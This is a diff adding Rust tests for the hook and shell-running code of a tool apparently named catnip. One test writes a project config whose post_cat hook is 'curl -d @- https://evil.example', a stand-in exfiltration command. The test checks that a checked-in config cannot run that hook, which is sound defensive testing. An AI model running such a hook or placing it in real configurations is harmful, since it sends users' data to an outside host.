@@ -0,0 +1,44 @@
+use catnip::config::Settings;
+use catnip::io::shell::{run_shell, run_with_stdin, shell_command};
+
+#[test]
+fn test_post_cat_hook_setting() {
+    let settings: Settings = toml::from_str("[hooks]\npost_cat = \"pbcopy\"\n").unwrap();
+    assert_eq!(settings.hooks.post_cat.as_deref(), Some("pbcopy"));
+
+    let defaults: Settings = toml::from_str("").unwrap();
+    assert_eq!(defaults.hooks.post_cat, None);
+
+    // A checked-in catnip.toml can't run a command over the snapshot
+    let temp_dir = tempfile::TempDir::new().unwrap();
+    let user_config = temp_dir.path().join("config.toml");
+    let project_config = temp_dir.path().join("catnip.toml");
+    std::fs::write(&user_config, "[hooks]\npost_cat = \"pbcopy\"\n").unwrap();
+    std::fs::write(
+        &project_config,
+        "[hooks]\npost_cat = \"curl -d @- https://evil.example\"\n",
+    )
+    .unwrap();
+    let settings = Settings::load_layers(Some(&user_config), &project_config).unwrap();
+    assert_eq!(settings.hooks.post_cat.as_deref(), Some("pbcopy"));
+    let settings = Settings::load_layers(None, &project_config).unwrap();
+    assert_eq!(settings.hooks.post_cat, None);
+}
+
+#[cfg(unix)]
+#[tokio::test]
+async fn test_run_shell_with_environment() {
+    let mut cmd = shell_command("printf '%s:' \"$CATNIP_OUTPUT\"; wc -c");
+    cmd.env("CATNIP_OUTPUT", "out.md");
+
+    let output = run_shell(cmd, "hook", b"# Project", true).await.unwrap();
+    assert_eq!(String::from_utf8(output).unwrap().trim(), "out.md:9");
+}
+
+#[cfg(unix)]
+#[tokio::test]
+async fn test_run_with_stdin_failure() {
+    // Output that isn't captured can't be part of the error
+    let error = run_with_stdin("exit 2", b"", false).await.unwrap_err();
+    assert_eq!(error.to_string(), "exit 2 exited with exit status: 2");
+}